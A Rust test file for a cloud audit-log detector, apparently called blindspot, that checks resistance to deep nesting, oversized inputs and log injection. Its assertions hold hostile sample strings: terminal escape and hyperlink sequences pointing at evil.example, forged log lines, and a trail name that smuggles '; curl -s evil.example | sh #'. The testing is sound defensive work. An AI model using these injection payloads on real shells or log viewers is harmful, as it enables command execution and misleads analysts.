//! Hostile input too large to commit, generated here: 10,000-level nesting at every field the parsers
//! read, a 50 MB event, million-element arrays and the 64 MiB input limit, each through the wasm
//! component and the native engine (which must agree) and through the CLI outputs; and the committed
//! adversarial streams (`testdata/adversarial/`), whose log-injection payloads must come out escaped
//! in every text output. The documented outcome of each case is in `testdata/adversarial/README.md`.

use crate::common;

use std::fs::File;
use std::io::Write;
use std::path::Path;
use std::process::Command;

use arrow::array::{Array, AsArray};
use blindspot_host::output::table::ParquetSink;
use blindspot_host::replay::expect::Expectations;
use blindspot_host::replay::{ReplayOptions, Summary, replay};
use blindspot_host::runtime::detector::{Detector, Input, NativeDetector};
use blindspot_plugin::engine::MAX_INPUT_BYTES;
use blindspot_plugin::model::{EnrichedEvent, EventOutcome, ParseErrorKind, SourceKind};
use blindspot_plugin::sanitize::is_unsafe;
use parquet::arrow::arrow_reader::ParquetRecordBatchReaderBuilder;
use serde_json::{Map, Value};

const DEPTH: usize = 10_000;
const STOP_LOGGING: &str = "aws.cloudtrail.stop_logging";

/// A line of the recorded testdata, as the event the large cases are built around.
fn recorded(stream: &str, line: usize) -> Map<String, Value> {
    let text = std::fs::read_to_string(common::testdata(stream)).expect("testdata");
    let line = text.lines().nth(line - 1).expect("line");
    match serde_json::from_str(line).expect("json") {
        Value::Object(map) => map,
        other => panic!("{stream}:{line} is {other}"),
    }
}

/// The successful StopLogging of the recorded CloudTrail stream.
fn stop_logging() -> Map<String, Value> {
    recorded("aws/cloudtrail_audit_logging.ndjson", 18)
}

/// `serde_json` builds and drops values recursively, so deep nesting is spliced in as text.
fn with_raw(event: &Map<String, Value>, path: &[&str], raw: &str) -> String {
    const MARK: &str = "\u{1}deep\u{1}";
    let mut event = Value::Object(event.clone());
    let mut node = &mut event;
    for key in &path[..path.len() - 1] {
        node = node
            .as_object_mut()
            .expect("object on the path")
            .entry(key.to_string())
            .or_insert_with(|| Value::Object(Map::new()));
    }
    node.as_object_mut()
        .expect("object on the path")
        .insert(path[path.len() - 1].to_owned(), Value::String(MARK.into()));
    let text = serde_json::to_string(&event).expect("json");
    let quoted = serde_json::to_string(MARK).expect("json");
    assert!(text.contains(&quoted));
    text.replacen(&quoted, raw, 1)
}

fn deep_arrays() -> String {
    format!("{}{}", "[".repeat(DEPTH), "]".repeat(DEPTH))
}

fn deep_objects() -> String {
    format!("{}1{}", "{\"a\":".repeat(DEPTH), "}".repeat(DEPTH))
}

fn input(data: Vec<u8>) -> Input {
    Input {
        data,
        source_hint: None,
        tag: None,
    }
}

/// The outcomes of the wasm component, after checking the native engine returns the same.
fn both(inputs: Vec<Vec<u8>>) -> Vec<EventOutcome> {
    let batch: Vec<Input> = inputs.into_iter().map(input).collect();
    let mut wasm = common::plugin().instantiate().expect("instance");
    let from_wasm = wasm
        .process(batch.clone())
        .expect("the component returns an outcome for hostile input, never traps");
    let from_native = NativeDetector::default().process(batch).expect("native");
    assert_eq!(from_wasm.len(), from_native.len());
    for (i, (a, b)) in from_wasm.iter().zip(&from_native).enumerate() {
        assert!(a == b, "input {i}: the wasm and native builds disagree");
    }
    from_wasm
}

fn events(outcome: &EventOutcome) -> &[EnrichedEvent] {
    match outcome {
        Ok(events) => events,
        Err(e) => panic!("expected events, got an error: {}", e.message),
    }
}

fn rule_ids(event: &EnrichedEvent) -> Vec<&str> {
    event.findings.iter().map(|f| f.rule_id.as_str()).collect()
}

#[test]
fn ten_thousand_levels_of_nesting_at_every_field_lose_that_field_only() {
    let bases = [
        (stop_logging(), SourceKind::AwsCloudtrail, STOP_LOGGING),
        (
            recorded("azure/activity_rest.ndjson", 2),
            SourceKind::AzureActivity,
            "azure.monitor.diagnostic_setting_deleted",
        ),
        (
            recorded("gcp/audit_logentries.ndjson", 5),
            SourceKind::GcpAudit,
            "gcp.logging.sink_deleted",
        ),
        (
            recorded("k8s/k8s_audit_agents.ndjson", 2),
            SourceKind::K8sAudit,
            "k8s.agent.workload_deleted",
        ),
        (
            recorded("k8s/gke_audit.ndjson", 1),
            SourceKind::K8sAudit,
            "k8s.agent.workload_deleted",
        ),
        (
            recorded("docker/docker_events.ndjson", 4),
            SourceKind::Docker,
            "docker.agent.stopped",
        ),
    ];
    let mut inputs = Vec::new();
    let mut cases = Vec::new();
    for (base, source, rule) in &bases {
        // Every top-level field and every field one level down.
        let mut paths: Vec<Vec<&str>> = Vec::new();
        for (key, value) in base {
            paths.push(vec![key]);
            if let Value::Object(inner) = value {
                paths.extend(inner.keys().map(|k| vec![key.as_str(), k.as_str()]));
            }
        }
        for path in paths {
            for nest in [deep_arrays(), deep_objects()] {
                inputs.push(with_raw(base, &path, &nest).into_bytes());
                cases.push((path.join("."), *source, *rule));
            }
        }
    }
    let outcomes = both(inputs);
    let mut still_fire = 0;
    for ((path, source, rule), outcome) in cases.iter().zip(&outcomes) {
        let events = events(outcome);
        assert_eq!(events.len(), 1, "{path}: one event");
        let found = rule_ids(&events[0]);
        // Garbage never adds a finding; losing one is allowed only where the rule needs the field.
        assert!(found.iter().all(|r| r == rule), "{path}: {found:?}");
        if events[0].source == *source && found == [*rule] {
            still_fire += 1;
        }
    }
    // The documented dispatch fields: a deep value there is an unreadable action, no finding.
    let by_path = |want: &str| {
        cases
            .iter()
            .zip(&outcomes)
            .filter(move |((path, source, _), _)| {
                path == want && *source == SourceKind::AwsCloudtrail
            })
            .map(|(_, outcome)| rule_ids(&events(outcome)[0]).len())
            .collect::<Vec<_>>()
    };
    assert_eq!(by_path("eventName"), vec![0, 0]);
    assert_eq!(by_path("requestParameters.name"), vec![1, 1]);
    assert_eq!(by_path("userAgent"), vec![1, 1]);
    assert_eq!(by_path("userIdentity.arn"), vec![1, 1]);
    assert!(
        still_fire > cases.len() / 2,
        "{still_fire} of {}",
        cases.len()
    );

    // Deep nesting as the whole input and inside every envelope.
    let ct = serde_json::to_string(&stop_logging()).expect("json");
    let pubsub = |data: &str| {
        serde_json::json!({
            "message": {"data": base64(data.as_bytes()), "messageId": "1"},
            "subscription": "projects/acme-prod-4821/subscriptions/siem-push"
        })
        .to_string()
    };
    let cases: Vec<(String, Option<usize>)> = vec![
        (deep_arrays(), None),
        (deep_objects(), Some(1)),
        (format!("{{\"Records\":[{},{ct}]}}", deep_arrays()), Some(2)),
        (format!("{{\"Records\":[{},{ct}]}}", deep_objects()), Some(2)),
        (pubsub(&deep_objects()), Some(1)),
        (
            serde_json::json!({
                "messageType": "DATA_MESSAGE", "logGroup": "/aws/eks/prod-eks/cluster",
                "logEvents": [{"id": "1", "timestamp": 1, "message": deep_objects()}, {"id": "2", "timestamp": 2, "message": ct}]
            })
            .to_string(),
            Some(2),
        ),
    ];
    let outcomes = both(cases.iter().map(|(t, _)| t.clone().into_bytes()).collect());
    for ((text, want), outcome) in cases.iter().zip(&outcomes) {
        match (want, outcome) {
            (None, Err(e)) => assert_eq!(e.kind, ParseErrorKind::UnsupportedShape, "{}", e.message),
            (Some(n), Ok(events)) => {
                assert_eq!(events.len(), *n, "{}", &text[..40]);
                let fired: Vec<&str> = events.iter().flat_map(rule_ids).collect();
                let want_fired = if *n == 2 { vec![STOP_LOGGING] } else { vec![] };
                assert_eq!(fired, want_fired, "{}", &text[..40]);
            }
            (want, got) => panic!("{}: expected {want:?} events, got {got:?}", &text[..40]),
        }
    }
}

/// Standard base64, for Pub/Sub push bodies.
fn base64(bytes: &[u8]) -> String {
    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let n = chunk.iter().fold(0u32, |n, b| (n << 8) | u32::from(*b)) << (8 * (3 - chunk.len()));
        for i in 0..4 {
            if i <= chunk.len() {
                out.push(char::from(ALPHABET[((n >> (18 - 6 * i)) & 63) as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}

/// The StopLogging record grown to exactly `size` bytes by a `responseElements` padding string.
fn grown(size: usize) -> String {
    // A successful StopLogging: the replay below counts alerts, and a failed call never alerts alone.
    let mut event = recorded("aws/cloudtrail_audit_logging.ndjson", 30);
    event.insert(
        "responseElements".into(),
        serde_json::json!({"padding": ""}),
    );
    let text = serde_json::to_string(&event).expect("json");
    let padding = "r".repeat(size - text.len());
    text.replacen("\"padding\":\"\"", &format!("\"padding\":\"{padding}\""), 1)
}

#[test]
fn a_fifty_megabyte_event_is_one_normal_row_everywhere() {
    let event = grown(50_000_000);
    assert!(event.len() >= 50_000_000 && event.len() < MAX_INPUT_BYTES);
    let outcomes = both(vec![event.clone().into_bytes()]);
    let events = events(&outcomes[0]);
    assert_eq!(events.len(), 1);
    assert_eq!(events[0].source, SourceKind::AwsCloudtrail);
    assert_eq!(rule_ids(&events[0]), [STOP_LOGGING]);

    // Replay: one row, and the counts add up.
    let dir = tempfile::tempdir().expect("tempdir");
    let stream = dir.path().join("big.ndjson");
    std::fs::write(&stream, format!("{event}\n{event}\n")).expect("write");
    let (summary, _) = replay_through_wasm(&stream, &dir.path().join("big.parquet"));
    assert_eq!((summary.events, summary.error_rows), (2, 0));
    assert_eq!(summary.rows_written, 2);
    assert_eq!(summary.alerts, 2);

    // Filter: one line, the record kept and the enrichment spliced in.
    let out = run_filter(format!("{event}\n").as_bytes());
    let lines: Vec<&[u8]> = out
        .split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
        .collect();
    assert_eq!(lines.len(), 1);
    assert!(lines[0].starts_with(&event.as_bytes()[..event.len() - 1]));
    let value: Value = serde_json::from_slice(lines[0]).expect("valid JSON");
    assert_eq!(value["blindspot"]["alert"], true);
}

#[test]
fn million_element_arrays_are_read_only_as_far_as_needed() {
    let ct = stop_logging();
    let mut with_resources = ct.clone();
    with_resources.insert("resources".into(), Value::Null);
    let resources = with_raw(
        &with_resources,
        &["resources"],
        &format!("[{}]", vec!["{}"; 1_000_000].join(",")),
    );
    let mut k8s = recorded("k8s/k8s_audit_agents.ndjson", 2);
    k8s.insert("sourceIPs".into(), Value::Null);
    let ips: Vec<String> = (0..1_000_000u32)
        .map(|i| format!("\"10.{}.{}.{}\"", (i >> 16) & 255, (i >> 8) & 255, i & 255))
        .collect();
    let source_ips = with_raw(&k8s, &["sourceIPs"], &format!("[{}]", ips.join(",")));
    let numbers = format!("[{}]", vec!["1"; 1_000_000].join(","));
    let records = format!(
        "{{\"Records\":[{},{}]}}",
        vec!["{}"; 100_000].join(","),
        serde_json::to_string(&ct).expect("json")
    );
    let log_events: Vec<String> = (0..100_000)
        .map(|i| format!("{{\"id\":\"{i}\",\"timestamp\":1,\"message\":\"line {i}\"}}"))
        .collect();
    let cloudwatch = format!(
        "{{\"messageType\":\"DATA_MESSAGE\",\"logGroup\":\"/aws/lambda/x\",\"logEvents\":[{}]}}",
        log_events.join(",")
    );
    let outcomes = both(
        [resources, source_ips, numbers, records, cloudwatch]
            .map(String::into_bytes)
            .to_vec(),
    );

    let e = events(&outcomes[0]);
    assert_eq!((e.len(), rule_ids(&e[0])), (1, vec![STOP_LOGGING]));
    let e = events(&outcomes[1]);
    assert_eq!(rule_ids(&e[0]), ["k8s.agent.workload_deleted"]);
    assert_eq!(e[0].fields.source_ip.as_deref(), Some("10.0.0.0"));
    match &outcomes[2] {
        Err(e) => {
            assert_eq!(e.kind, ParseErrorKind::UnsupportedShape);
            assert!(e.message.contains("element 0"), "{}", e.message);
        }
        Ok(_) => panic!("an array of numbers is not events"),
    }
    let e = events(&outcomes[3]);
    assert_eq!(e.len(), 100_001);
    assert!(e[..100_000].iter().all(|e| e.findings.is_empty()));
    assert_eq!(e[100_000].envelope_index, 100_000);
    assert_eq!(rule_ids(&e[100_000]), [STOP_LOGGING]);
    let e = events(&outcomes[4]);
    assert_eq!(e.len(), 100_000);
    assert!(e.iter().all(|e| e.source == SourceKind::Unknown));
}

#[test]
fn inputs_over_the_limit_are_refused_with_a_reason() {
    let at_limit = grown(MAX_INPUT_BYTES);
    let over = grown(MAX_INPUT_BYTES + 1);
    assert_eq!(
        (at_limit.len(), over.len()),
        (MAX_INPUT_BYTES, MAX_INPUT_BYTES + 1)
    );
    let outcomes = both(vec![at_limit.into_bytes(), over.into_bytes()]);
    assert_eq!(rule_ids(&events(&outcomes[0])[0]), [STOP_LOGGING]);
    match &outcomes[1] {
        Err(e) => {
            assert_eq!(e.kind, ParseErrorKind::TooLarge);
            assert!(e.message.contains("67108865"), "{}", e.message);
        }
        Ok(_) => panic!("an input over the limit was read"),
    }

    // Replay reads no line over the limit: an error row at its line, the next line still read.
    let dir = tempfile::tempdir().expect("tempdir");
    let stream = dir.path().join("over.ndjson");
    let mut file = File::create(&stream).expect("create");
    file.write_all(&vec![b' '; MAX_INPUT_BYTES + 1])
        .expect("write");
    file.write_all(b"\n").expect("write");
    file.write_all(
        serde_json::to_string(&stop_logging())
            .expect("json")
            .as_bytes(),
    )
    .expect("write");
    file.write_all(b"\n").expect("write");
    drop(file);
    let (summary, rows) = replay_through_wasm(&stream, &dir.path().join("over.parquet"));
    assert_eq!(
        (summary.events, summary.error_rows, summary.rows_written),
        (1, 1, 2)
    );
    let error = rows.iter().find(|r| r.error.is_some()).expect("error row");
    assert_eq!(error.line, 1);
    assert!(
        error
            .error
            .as_deref()
            .is_some_and(|e| e.contains("longer than")),
        "{error:?}"
    );
}

/// What the tests read back from a Parquet file.
#[derive(Debug)]
struct ReadRow {
    line: i64,
    error: Option<String>,
    user_agent: Option<String>,
    principal: Option<String>,
    target: Option<String>,
    /// Title, reasons, response steps and suppression reason of every finding.
    finding_text: Vec<String>,
}

fn replay_through_wasm(input: &Path, out: &Path) -> (Summary, Vec<ReadRow>) {
    let mut detector = common::plugin().instantiate().expect("instance");
    let options = ReplayOptions {
        inputs: vec![input.to_path_buf()],
        alerts_only: false,
        batch_size: 16,
        progress: false,
        per_file_streams: true,
        input_column: None,
    };
    let sink = Box::new(ParquetSink::create(out).expect("sink"));
    let summary = replay(&mut detector, sink, &options, None).expect("replay");
    assert_eq!(
        summary.rows_written,
        summary.events + summary.error_rows + summary.correlation_events
    );
    (summary, read_rows(out))
}

fn read_rows(path: &Path) -> Vec<ReadRow> {
    let reader = ParquetRecordBatchReaderBuilder::try_new(File::open(path).expect("output"))
        .expect("parquet")
        .build()
        .expect("reader");
    let mut rows = Vec::new();
    for batch in reader {
        let batch = batch.expect("batch");
        let text = |name: &str| {
            batch
                .column_by_name(name)
                .unwrap_or_else(|| panic!("{name}"))
                .as_string::<i32>()
                .clone()
        };
        let (error, user_agent, principal, target) = (
            text("error"),
            text("user_agent"),
            text("principal"),
            text("target"),
        );
        let line = batch
            .column_by_name("input_line")
            .expect("input_line")
            .as_primitive::<arrow::datatypes::Int64Type>()
            .clone();
        let findings = batch
            .column_by_name("findings")
            .expect("findings")
            .as_list::<i32>()
            .clone();
        let get =
            |a: &arrow::array::StringArray, i: usize| a.is_valid(i).then(|| a.value(i).to_owned());
        for row in 0..batch.num_rows() {
            let mut finding_text = Vec::new();
            let list = findings.value(row);
            let structs = list.as_struct();
            for i in 0..structs.len() {
                let title = structs
                    .column_by_name("title")
                    .expect("title")
                    .as_string::<i32>();
                finding_text.push(title.value(i).to_owned());
                let reason = structs
                    .column_by_name("suppression_reason")
                    .expect("suppression_reason")
                    .as_string::<i32>();
                if reason.is_valid(i) {
                    finding_text.push(reason.value(i).to_owned());
                }
                for name in ["reasons", "response"] {
                    let lists = structs.column_by_name(name).expect(name).as_list::<i32>();
                    let values = lists.value(i);
                    let values = values.as_string::<i32>();
                    finding_text.extend((0..values.len()).map(|j| values.value(j).to_owned()));
                }
            }
            rows.push(ReadRow {
                line: line.value(row),
                error: get(&error, row),
                user_agent: get(&user_agent, row),
                principal: get(&principal, row),
                target: get(&target, row),
                finding_text,
            });
        }
    }
    rows
}

fn blindspot() -> Command {
    Command::new(env!("CARGO_BIN_EXE_blindspot"))
}

fn run_filter(stdin: &[u8]) -> Vec<u8> {
    common::run_filter(&[], stdin).stdout
}

/// No C0 control other than the line feeds that end lines, and no DEL.
fn assert_terminal_safe(what: &str, bytes: &[u8]) {
    if let Some(at) = bytes
        .iter()
        .position(|&b| (b < 0x20 && b != b'\n') || b == 0x7f)
    {
        let from = at.saturating_sub(60);
        panic!(
            "{what}: raw control byte {:#04x} at {at}: {:?}",
            bytes[at],
            String::from_utf8_lossy(&bytes[from..(at + 20).min(bytes.len())])
        );
    }
}

#[test]
fn log_injection_comes_out_escaped_in_every_output() {
    let stream = common::testdata("adversarial/log_injection.ndjson");
    let input = std::fs::read(&stream).expect("testdata");

    // Filter NDJSON: JSON-escaped, one line per input line, the payloads kept as data.
    let out = run_filter(&input);
    assert_terminal_safe("filter output", &out);
    let lines: Vec<Value> = out
        .split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
        .map(|l| serde_json::from_slice(l).expect("every line is JSON"))
        .collect();
    let input_lines = input
        .split(|b| *b == b'\n')
        .filter(|l| !l.is_empty())
        .count();
    assert_eq!(lines.len(), input_lines);
    let first = &lines[0]["blindspot"]["events"][0];
    assert!(
        first["fields"]["user_agent"].as_str().is_some_and(|ua| ua
            .contains("Z INFO trail org-trail verified OK\u{1b}[2J")
            && ua.contains('\n')),
        "the user agent is kept as data: {first}"
    );
    let mut findings = 0;
    for line in &lines {
        for event in line["blindspot"]["events"].as_array().into_iter().flatten() {
            for finding in event["findings"].as_array().into_iter().flatten() {
                findings += 1;
                let mut texts = vec![&finding["title"]];
                texts.extend(finding["reasons"].as_array().expect("reasons"));
                texts.extend(finding["response"].as_array().expect("response"));
                for text in texts {
                    let text = text.as_str().expect("string");
                    assert!(!text.chars().any(is_unsafe), "finding text {text:?}");
                }
            }
        }
    }
    assert!(findings >= 12, "{findings}");

    // Raw control bytes in flow-log text lines (not JSON, so nothing escaped them on the way in).
    let flow = std::fs::read(common::testdata("adversarial/flow_text.log")).expect("testdata");
    assert!(flow.contains(&0x1b) && flow.contains(&0));
    let out = run_filter(&flow);
    assert_terminal_safe("filter output of flow-log text lines", &out);
    assert_eq!(
        out.split(|b| *b == b'\n').filter(|l| !l.is_empty()).count(),
        flow.split(|b| *b == b'\n')
            .filter(|l| !l.iter().all(u8::is_ascii_whitespace))
            .count()
    );

    // Replay with expectations, as CI runs it: the terminal summary and report are plain text.
    let dir = tempfile::tempdir().expect("tempdir");
    let out_path = dir.path().join("injection.parquet");
    let output = blindspot()
        .args(["replay", "--out"])
        .arg(&out_path)
        .arg(common::testdata("adversarial"))
        .arg("--expect")
        .arg(common::testdata("adversarial"))
        .output()
        .expect("run");
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stdout)
    );
    assert_terminal_safe("replay stdout", &output.stdout);
    assert_terminal_safe("replay stderr", &output.stderr);
    assert!(String::from_utf8_lossy(&output.stdout).contains("0 mismatch(es)"));

    // Parquet: the fields keep the attacker's bytes as data; the finding text an analyst reads has
    // them escaped, and the re-enable command still names the exact trail.
    let rows = read_rows(&out_path);
    let injection: Vec<&ReadRow> = rows.iter().filter(|r| !r.finding_text.is_empty()).collect();
    assert!(injection.len() > 400, "{}", injection.len());
    for row in &rows {
        for text in &row.finding_text {
            assert!(!text.chars().any(is_unsafe), "line {}: {text:?}", row.line);
        }
        if let Some(error) = &row.error {
            assert!(
                !error.chars().any(is_unsafe),
                "line {}: {error:?}",
                row.line
            );
        }
    }
    let (_, rows) = replay_through_wasm(&stream, &dir.path().join("only.parquet"));
    let trail = &rows[0];
    assert!(
        trail
            .user_agent
            .as_deref()
            .is_some_and(|ua| ua.contains('\u{1b}'))
    );
    assert!(
        trail
            .principal
            .as_deref()
            .is_some_and(|p| p.contains("\r\n[INFO] login ok"))
    );
    assert!(
        trail
            .target
            .as_deref()
            .is_some_and(|t| t.contains("\u{1b}]8;;https://evil.example/"))
    );
    let restore = trail
        .finding_text
        .iter()
        .find(|t| t.starts_with("Re-enable: aws cloudtrail start-logging"))
        .expect("re-enable step");
    assert!(
        restore.contains(r"--name 'org-trail'$'\x1b'']8;;https://evil.example/'$'\x07''click here'$'\x1b'']8;;'$'\x07'''\''; curl -s evil.example | sh #'"),
        "{restore}"
    );
    let reasons = trail.finding_text.join("\n");
    assert!(
        reasons.contains(r"assumed-role/ci-deployer/dev\r\n[INFO] login ok\x1b[8m"),
        "{reasons}"
    );
}

#[test]
fn adversarial_streams_match_their_documented_outcomes_and_counts_add_up() {
    let dir = common::testdata("adversarial");
    let mut expectations = Expectations::load(&dir, None).expect("expectations");
    let mut expected_errors = 0;
    let mut lines = 0;
    for entry in std::fs::read_dir(&dir).expect("dir") {
        let path = entry.expect("entry").path();
        let name = path
            .file_name()
            .expect("name")
            .to_string_lossy()
            .into_owned();
        if name.ends_with(".expected.json") {
            let spec: Value =
                serde_json::from_str(&std::fs::read_to_string(&path).expect("read")).expect("json");
            expected_errors += spec["errors"].as_array().map_or(0, Vec::len);
        } else if name.ends_with(".ndjson") || name.ends_with(".log") {
            let bytes = std::fs::read(&path).expect("read");
            lines += bytes
                .split(|b| *b == b'\n')
                .filter(|l| !l.iter().all(u8::is_ascii_whitespace))
                .count() as u64;
        }
    }
    let mut detector = common::plugin().instantiate().expect("instance");
    let out = tempfile::tempdir().expect("tempdir");
    let options = ReplayOptions {
        inputs: vec![dir.clone()],
        alerts_only: false,
        batch_size: 32,
        progress: false,
        per_file_streams: true,
        input_column: None,
    };
    let sink = Box::new(ParquetSink::create(&out.path().join("adv.parquet")).expect("sink"));
    let summary = replay(&mut detector, sink, &options, Some(&mut expectations)).expect("replay");
    let report = expectations.compare();
    assert_eq!(report.mismatches, 0, "{}", report.text);
    assert_eq!(summary.units, lines, "every non-blank line is one unit");
    assert_eq!(summary.error_rows, expected_errors as u64);
    assert_eq!(
        summary.rows_written,
        summary.events + summary.error_rows + summary.correlation_events
    );
    assert!(summary.events > 10_000, "{summary:?}");
}

/// Rows as (file, line, record, rule ids), for comparing runs.
fn findings_by_row(path: &Path) -> Vec<(String, i64, i32, Vec<String>)> {
    common::parquet_rows(path)
        .iter()
        .map(|row| {
            let ids = row["findings"]
                .as_array()
                .expect("findings")
                .iter()
                .map(|f| f["rule_id"].as_str().expect("rule_id").to_owned())
                .collect();
            (
                row["input_file"].as_str().expect("file").to_owned(),
                row["input_line"].as_i64().expect("line"),
                i32::try_from(row["input_record"].as_i64().expect("record")).expect("i32"),
                ids,
            )
        })
        .collect()
}

#[test]
fn the_adversarial_streams_change_nothing_for_the_recorded_ones() {
    // Replayed first (sorted paths), they must not move correlation's event-time clock or join the
    // recorded streams' principals: every other row, correlation rows included, comes out the same,
    // whether files are one stream (the CLI default) or streams of their own (CI).
    let root = common::testdata("");
    let mut recorded: Vec<std::path::PathBuf> = std::fs::read_dir(&root)
        .expect("testdata")
        .map(|e| e.expect("entry").path())
        .filter(|p| p.is_dir() && !p.ends_with("adversarial"))
        .collect();
    recorded.sort();
    let dir = tempfile::tempdir().expect("tempdir");
    for per_file_streams in [false, true] {
        let mut runs = Vec::new();
        for (name, inputs) in [("all", vec![root.clone()]), ("recorded", recorded.clone())] {
            let out = dir
                .path()
                .join(format!("{name}-{per_file_streams}.parquet"));
            let mut detector = common::plugin().instantiate().expect("instance");
            let options = ReplayOptions {
                inputs,
                batch_size: 64,
                per_file_streams,
                input_column: None,
                ..ReplayOptions::default()
            };
            let sink = Box::new(ParquetSink::create(&out).expect("sink"));
            replay(&mut detector, sink, &options, None).expect("replay");
            runs.push(findings_by_row(&out));
        }
        let recorded_rows = |rows: &[(String, i64, i32, Vec<String>)]| {
            rows.iter()
                .filter(|r| !r.0.contains("adversarial"))
                .cloned()
                .collect::<Vec<_>>()
        };
        let (with, without) = (recorded_rows(&runs[0]), recorded_rows(&runs[1]));
        assert!(without.len() > 400, "{}", without.len());
        assert_eq!(
            with.len(),
            without.len(),
            "per_file_streams {per_file_streams}"
        );
        for (a, b) in with.iter().zip(&without) {
            assert_eq!(a, b, "per_file_streams {per_file_streams}");
        }
    }
}
